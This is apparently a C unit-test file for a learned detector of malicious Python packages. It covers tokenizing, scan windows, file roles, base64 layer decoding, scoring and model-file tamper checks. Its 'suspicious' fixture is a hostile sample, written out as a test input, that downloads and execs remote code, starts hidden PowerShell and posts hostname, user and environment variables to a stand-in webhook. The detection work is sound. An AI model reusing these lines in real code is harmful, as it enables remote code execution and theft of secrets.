/* The learned detector: what is one token, what is in a window, which models are refused. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <cmocka.h>

#include "base/arena.h"
#include "base/base64.h"
#include "base/buf.h"
#include "base/mem.h"
#include "detect/layers.h"
#include "detect/schema.h"
#include "detect/score.h"
#include "sys/digest.h"

enum { TOKENS_MAX = 4096 };

static struct token tokens[TOKENS_MAX];

static size_t cut(const char *text)
{
	struct token_reader r = token_reader_of(span_str(text));

	return tokens_read(&r, tokens, TOKENS_MAX);
}

/* Whether two texts are the same to the detector. */
static bool alike(const char *a, const char *b)
{
	static struct token others[TOKENS_MAX];
	size_t n = cut(a);

	memcpy(others, tokens, n * sizeof(*tokens));
	if (cut(b) != n)
		return false;
	for (size_t i = 0; i < n; i++)
		if (tokens[i].hash != others[i].hash)
			return false;
	return true;
}

static void test_tokens(void **state)
{
	(void)state;
	assert_int_equal(cut(""), 0);
	assert_int_equal(cut("a = b(1)"), 6);
	assert_int_equal(tokens[2].at, 4);
	assert_int_equal(tokens[2].length, 1);
	assert_int_equal(cut("x # a comment"), 1);
	assert_true(alike("a=b", "  a  =\n b # c"));
	assert_false(alike("a = b", "a = c"));
	assert_int_equal(cut("\"\"\"A docstring\nof many words.\"\"\"\nx"), 2);
	assert_false(alike("f(\"\"\"a b\"\"\")", "f(\"\"\"a\"\"\")"));
}

static void test_strings_that_are_split(void **state)
{
	(void)state;
	assert_true(alike("f('requests')", "f('re' + 'quests')"));
	assert_true(alike("f('requests')", "f('re'+\n\"que\" + 'sts')"));
	assert_true(alike("f('a b')", "f('a ' + 'b')"));
	assert_false(alike("f('ab')", "f('a', 'b')"));
	assert_int_equal(cut("'not closed +"), 4);
	assert_int_equal(cut("'a' + '"), 2);
}

static void test_what_takes_up_room(void **state)
{
	static char text[TOKENS_MAX];
	size_t n = 0;

	(void)state;
	assert_int_equal(cut("'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVowMTIzNDU2Nzg5+/=='"), 3);
	assert_int_equal(cut("'0123456789abcdef0123456789abcdef0123456789abcdef'"), 3);
	assert_int_equal(cut("'\\x41\\x42\\x43\\101\\u0041'"), 3);
	assert_true(cut("'https://example.invalid/api/webhooks/1234/abcdefghijklmnopqrstuvw'") >
		    10);
	for (int i = 0; i < 300; i++)
		n += (size_t)snprintf(text + n, sizeof(text) - n, "%d, ", i % 100);
	assert_true(cut(text) < 12);
	assert_true(alike("_0x3fa2c()", "_0x99b1e()"));
	assert_true(alike("lIlIlI1()", "I1lIlIl()"));
}

/* Windows. */

struct seen {
	size_t n, tokens, largest;
	uint64_t end;
};

static void see(void *context, const struct window *window)
{
	struct seen *seen = context;

	assert_true(window->n_tokens > 0 && window->n_tokens <= WINDOW_TOKENS);
	assert_true(window->n_features <= WINDOW_FEATURES_MAX);
	assert_true(window->at <= seen->end || seen->n == 0);
	seen->end = window->end;
	seen->n++;
	seen->tokens += window->n_tokens;
}

static struct span repeated(const char *line, size_t times, struct buf *buf)
{
	buf_init(buf, MiB(16));
	for (size_t i = 0; i < times; i++)
		buf_str(buf, line);
	return buf_view(buf);
}

static void test_windows(void **state)
{
	struct seen none = { 0 }, one = { 0 }, many = { 0 };
	struct buf buf;
	struct span text = repeated("a = 1\n", 400, &buf);

	(void)state;
	windows_read(span_str(" # nothing\n"), ROLE_OTHER, see, &none);
	assert_int_equal(none.n, 0);
	windows_read(span_part(text, 0, 6 * 133), ROLE_OTHER, see, &one);
	assert_int_equal(one.n, 1);
	windows_read(text, ROLE_SETUP, see, &many);
	assert_int_equal(many.n, 4); /* 1200 tokens: 0-400, 300-700, 600-1000, 900-1200 */
	assert_int_equal(many.tokens, 1500);
	assert_int_equal(many.end, text.n - 1);
	buf_free(&buf);
}

static void test_roles(void **state)
{
	(void)state;
	assert_int_equal(window_role_of(span_str("a/setup.py")), ROLE_SETUP);
	assert_int_equal(window_role_of(span_str("setup.py")), ROLE_SETUP);
	assert_int_equal(window_role_of(span_str("a/__init__.py")), ROLE_PACKAGE);
	assert_int_equal(window_role_of(span_str("x.pth")), ROLE_START);
	assert_int_equal(window_role_of(span_str("a/mysetup.py")), ROLE_OTHER);
}

static void test_aside(void **state)
{
	(void)state;
	assert_true(window_is_aside(span_str("a-1.0/tests/x.py")));
	assert_true(window_is_aside(span_str("a.whl!examples/x.py")));
	assert_true(window_is_aside(span_str("a/test_x.py")));
	assert_true(window_is_aside(span_str("conftest.py")));
	assert_false(window_is_aside(span_str("a/latest.py")));
	assert_false(window_is_aside(span_str("a/tests")));
	assert_false(window_is_aside(span_str("")));
}

/* Scores. */

static const char suspicious[] =
	"import base64, os, subprocess, requests, socket, getpass\n"
	"exec(base64.b64decode(requests.get('https://example.invalid/p').text))\n"
	"subprocess.Popen(['powershell', '-WindowStyle', 'Hidden'], creationflags=0x08000000)\n"
	"requests.post('https://example.invalid/api/webhooks/1', json={'content':\n"
	"    socket.gethostname() + getpass.getuser() + str(dict(os.environ))})\n";

static struct model model;
static struct arena arena;

static void test_built_in(void **state)
{
	(void)state;
	assert_null(model_built_in(&model));
	assert_true(model.file.n <= 200 << 10);
	assert_true(model.thresholds[MODEL_BLOCK].points > model.thresholds[MODEL_REVIEW].points);
	assert_int_equal(model.thresholds[MODEL_BLOCK].alarms, 0);
}

/* Layers. */

struct depths {
	unsigned deepest;
	size_t n;
	uint64_t at; /* of the deepest */
};

static void see_layer(void *context, const struct layer *layer, const struct window *window)
{
	struct depths *depths = context;

	assert_true(window->n_tokens > 0);
	depths->n++;
	if (layer->depth < depths->deepest)
		return;
	depths->deepest = layer->depth;
	depths->at = layer->at;
}

static struct depths read_layers(struct span text, bool whole)
{
	struct depths depths = { 0 };

	assert_int_equal(layers_read(text, ROLE_OTHER, &arena, see_layer, &depths), whole);
	return depths;
}

/* Source that decodes other source, on its third line. */
static struct span encoded(struct span text)
{
	struct buf buf;
	struct span out;

	buf_init(&buf, MiB(16));
	buf_str(&buf, "import base64\n\nrun(base64.b64decode('");
	buf_span(&buf, base64_write(text, &arena));
	buf_str(&buf, "'))\n");
	out = arena_copy(&arena, buf_view(&buf));
	buf_free(&buf);
	return out;
}

static void test_layers(void **state)
{
	struct span text = span_str("print('x')\n");
	struct depths depths = read_layers(text, true);

	(void)state;
	assert_int_equal(depths.n, 1);
	assert_int_equal(depths.deepest, 0);
	for (unsigned depth = 1; depth <= LAYERS_DEPTH_MAX; depth++) {
		text = encoded(text);
		depths = read_layers(text, true);
		assert_int_equal(depths.deepest, depth);
		assert_int_equal(depths.n, depth + 1);
		assert_int_equal(depths.at, 36); /* the constant */
	}
	depths = read_layers(encoded(text), false);
	assert_int_equal(depths.deepest, LAYERS_DEPTH_MAX);

	/* What is no text is no source: here the bytes ff fe. */
	depths = read_layers(span_str("import base64\nbase64.b64decode('//4=')\n"), true);
	assert_int_equal(depths.deepest, 0);
}

static void test_many_layers(void **state)
{
	struct buf buf;

	(void)state;
	buf_init(&buf, MiB(16));
	for (size_t i = 0; i <= LAYERS_READ_MAX; i++)
		buf_span(&buf, encoded(encoded(span_str("print('x')\n"))));
	(void)read_layers(buf_view(&buf), false);
	buf_free(&buf);
}

/* The lines of a decoded window are those where it is decoded, its reasons are of what it is. */
static void test_decoded(void **state)
{
	struct span text = encoded(span_str(suspicious));
	struct score score = score_text(&model, text, ROLE_OTHER, &arena);
	struct explanation why;

	(void)state;
	assert_int_equal(score.depth, 1);
	assert_int_equal(score.at, 36);
	assert_true(score.points >= model.thresholds[MODEL_REVIEW].points);
	score_explain(&model, text, ROLE_OTHER, &arena, &score, &why);
	assert_true(why.n > 0);
	for (size_t i = 0; i < why.n; i++)
		assert_true(memmem(suspicious, sizeof(suspicious), why.reasons[i].text.p,
				   why.reasons[i].text.n) != NULL);
}

static void test_padding_changes_nothing(void **state)
{
	struct span text = span_str(suspicious);
	struct score alone = score_text(&model, text, ROLE_SETUP, &arena);
	struct buf buf;

	(void)state;
	assert_true(alone.points >= model.thresholds[MODEL_REVIEW].points);
	assert_int_equal(alone.n, 1);

	/* In the same file, the score may change a little at the borders of windows; it never goes
	 * away. Comments and docstrings change nothing. */
	buf_init(&buf, MiB(16));
	for (int i = 0; i < 3000; i++)
		buf_printf(&buf, "# a comment of no interest %d\n\"\"\"A docstring.\"\"\"\n", i);
	buf_str(&buf, suspicious);

	struct score padded = score_text(&model, buf_view(&buf), ROLE_SETUP, &arena);

	assert_true(padded.points + 500 > alone.points);
	buf_free(&buf);
}

static void test_explained(void **state)
{
	struct span text = span_str(suspicious);
	struct score score = score_text(&model, text, ROLE_SETUP, &arena);
	struct explanation why;

	(void)state;
	score_explain(&model, text, ROLE_SETUP, &arena, &score, &why);
	assert_true(why.n > 0 && why.n <= REASONS_MAX);
	for (size_t i = 0; i < why.n; i++) {
		assert_true(why.reasons[i].at + why.reasons[i].text.n <= text.n);
		assert_true(span_eq(why.reasons[i].text,
				    span_part(text, why.reasons[i].at, why.reasons[i].text.n)));
		assert_true(i == 0 || why.reasons[i].points <= why.reasons[i - 1].points);
	}
}

/* Hostile models. */

static uint8_t *copy;

/* What the digest says again of what was changed. */
static const char *read_changed(size_t n)
{
	struct span body = span_of(copy, n - SHA256_SIZE);
	struct model other;

	digest_of_parts(&body, 1, copy + body.n);
	return model_read(span_of(copy, n), &other);
}

static int set_up(void **state)
{
	(void)state;
	if (model_built_in(&model))
		return 1;
	copy = mem_alloc(model.file.n);
	arena_init(&arena, MiB(64), NULL, NULL);
	return 0;
}

static int tear_down(void **state)
{
	(void)state;
	mem_free(copy);
	arena_free(&arena);
	return 0;
}

static void test_refused(void **state)
{
	size_t n = model.file.n;
	struct model other;

	(void)state;
	for (size_t cut = 0; cut < n; cut += cut < 300 ? 1 : 997)
		assert_non_null(model_read(span_part(model.file, 0, cut), &other));
	memcpy(copy, model.file.p, n);
	copy[n / 2] ^= 1;
	assert_string_equal(model_read(span_of(copy, n), &other),
			    "its digest is wrong: it was changed");

	/* One byte of the head after the other, with a digest that fits. */
	for (size_t at = 0; at < 16 + SCHEMA_SIZE; at++) {
		memcpy(copy, model.file.p, n);
		copy[at] ^= 0x40;
		assert_non_null(read_changed(n));
	}
	memcpy(copy, model.file.p, n);
	assert_null(read_changed(n));
}

/* Weights that are others: the canaries tell. */
static void test_canaries(void **state)
{
	size_t n = model.file.n;

	(void)state;
	memcpy(copy, model.file.p, n);
	for (size_t i = 0; i < FEATURES; i++)
		copy[n - SHA256_SIZE - FEATURES + i] ^= 0x3f;
	assert_string_equal(read_changed(n), "a canary does not get the points that it should");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_tokens),
		cmocka_unit_test(test_strings_that_are_split),
		cmocka_unit_test(test_what_takes_up_room),
		cmocka_unit_test(test_windows),
		cmocka_unit_test(test_roles),
		cmocka_unit_test(test_aside),
		cmocka_unit_test(test_built_in),
		cmocka_unit_test(test_padding_changes_nothing),
		cmocka_unit_test(test_explained),
		cmocka_unit_test(test_layers),
		cmocka_unit_test(test_many_layers),
		cmocka_unit_test(test_decoded),
		cmocka_unit_test(test_refused),
		cmocka_unit_test(test_canaries),
	};

	return cmocka_run_group_tests(tests, set_up, tear_down);
}
